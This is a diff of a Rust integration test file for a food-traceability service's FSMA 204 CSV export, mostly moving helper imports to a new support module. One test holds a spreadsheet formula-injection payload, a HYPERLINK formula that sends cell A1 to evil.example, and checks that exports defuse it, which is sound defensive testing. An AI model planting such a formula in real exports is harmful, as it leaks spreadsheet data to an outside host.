@@ -3,11 +3,9 @@
 //! provenance bundle's entries), and the FSMA 204 CSV of a lot, an operator's period and a
 //! period (parsed back with an RFC 4180 reader).
 
-mod common;
-
 use std::collections::HashMap;
 
-use common::{Server, enc, post_json};
+use crate::support::{Server, enc, post_json};
 use lotline_scenario::{self as scenario, items, lgtin, sgtin};
 use serde_json::{Value, json};
 
@@ -395,7 +393,7 @@ impl Sheet {
 /// An FSMA export, with a registrar's audit token (the lot export needs none).
 fn fsma(server: &Server, query: &str) -> Got {
     let registrar = scenario::seeded_key("export test registrar");
-    let token = common::audit_token(server, &registrar);
+    let token = crate::support::audit_token(server, &registrar);
     let sep = if query.is_empty() { "" } else { "&" };
     fetch(&server.url(&format!(
         "/v1/export/fsma204.csv?{query}{sep}access_token={token}"
@@ -617,10 +615,10 @@ fn spreadsheet_formulas_in_signed_values_are_defused() {
     // whoever asked for the registration.
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
     let farm = scenario::pgln(777);
-    let key = common::key();
+    let key = crate::support::key();
     let reg = scenario::register(
         None,
-        common::REGISTERED,
+        crate::support::REGISTERED,
         &farm,
         evil,
         ("KH", "@SUM(1+1)"),
